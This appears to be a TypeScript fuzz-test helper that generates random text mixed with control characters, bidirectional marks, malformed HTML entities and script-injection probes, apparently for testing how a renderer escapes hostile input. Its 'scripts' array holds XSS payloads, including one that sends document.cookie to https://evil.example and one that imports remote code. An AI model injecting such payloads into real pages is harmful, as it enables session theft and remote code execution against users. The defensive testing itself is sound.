import type { Random } from '../Random.ts'

/** Scripts that tell when they run: browsers that the tests open report each of these calls. */
export const scripts = [
  'alert(1)',
  'fired(1)',
  'alert`1`',
  'top.fired(1)',
  '(0,eval)("fired(1)")',
  'import("https://evil.example/x.js")',
  'fetch("https://evil.example/?"+document.cookie)',
  'new Image().src="https://evil.example/x"',
  'location="https://evil.example/"',
  'document.body.append(document.createElement`script`)',
] as const

const plainWords = 'pod cluster policy edge Kubernetes drops a packet and the agent reads it only once'.split(
  ' ',
)

/** Characters that some reader of a text treats in a way of its own. */
const strangeCharacters = [
  // Control characters, NUL and the C1 control that begins an escape sequence.
  '\0 \x01 \x07 \x08 \x0b \x0c \x0e \x1b \x1b[31m \x1b]0;x\x07 \x7f \x80 \x85 \x9b31m \x9d',
  // Bidirectional marks, zero-width characters, spaces and separators.
  '\u200b \u200c \u200d \u200e \u200f \u202a \u202e \u2066 \u2067 \u2069 \u061c \u2060 \ufeff \u00ad \u034f',
  '\u00a0 \u1680 \u2003 \u2028 \u2029 \u202f \u205f \u3000 \u180e',
  // Lone surrogates, noncharacters, combining marks, and letters that fold or normalise to ASCII.
  '\ud800 \udfff \udbff\udbff \ufffe \uffff \ufdd0 \u{1fffe} \u{10ffff} \u0301 \u0338 \u20dd ﬁ ſ K İ ı ß ＜ ＞ ＂ ： ／',
  // Letters of several UTF-16 units or of other scripts, tags, and variation selectors.
  '😀 👩‍👩‍👧 🇩🇪 𝒿 \u{e0041} \ufe0f 日本 العربية עברית हिन्दी ไทย',
].flatMap(line => line.split(' '))

/** Entities, also without their semicolon, of no character, or of one that must not be. */
const entities = (
  '&amp; &lt; &gt; &quot; &apos; &nbsp; &Tab; &NewLine; &colon; &lpar; &sol; &bsol; &lbrace; &grave; &num; &period; &zwj; ' +
  '&lt &gt &amp &quot &copy &notit; &not &AMP &LT; &#60; &#x3c; &#x3C &#60 &#0060; &#0; &#x0; &#x80; &#x9b; &#128; &#xd; ' +
  '&#13; &#xd800; &#x110000; &#x1f600; &#99999999999; &#; &#x; &; & &unknown; &ThickSpace; &NotEqualTilde; &amp;lt; ' +
  '&amp;#60; &bne; &fjlig; &#x202e; &#8203; &shy; &Cconint; &CounterClockwiseContourIntegral;'
).split(' ')

const whitespace = [
  '\n',
  '\n',
  '\n\n',
  '\r\n',
  '\r',
  '\t',
  ' ',
  '  ',
  '    ',
  '\f',
  '\v',
  '\u00a0',
  '\u2028',
  '\u0085',
]

export const whitespaceOf = (random: Random): string => random.pick(whitespace)

export const entityOf = (random: Random): string => random.pick(entities)

export const strangeOf = (random: Random): string => random.pick(strangeCharacters)

/** A few words, with strange characters, entities and marks between them. */
export const wordsOf = (random: Random): string =>
  random.several(
    () =>
      random.produce([
        [12, () => random.pick(plainWords)],
        [2, () => strangeOf(random)],
        [2, () => entityOf(random)],
        [
          2,
          () =>
            random.pick(['<', '>', '"', "'", '`', '\\', '&', '=', '/', '[', ']', '(', ')', '!', '|', '#']),
        ],
        [
          1,
          () =>
            random.pick([
              '*',
              '**',
              '_',
              '~',
              '~~',
              '``',
              '$',
              '{',
              '}',
              '@',
              '://',
              'www.',
              ':',
              '^',
              '%00',
            ]),
        ],
        [1, () => whitespaceOf(random)],
        [1, () => random.pick(scripts)],
      ]),
    [1, 5],
    random.pick([' ', ' ', ' ', '']),
  )

/** Changes the case of some letters. */
export const mixedCase = (random: Random, text: string): string =>
  random.chance(0.7)
    ? text
    : [...text].map(letter => (random.chance(0.5) ? letter.toUpperCase() : letter)).join('')
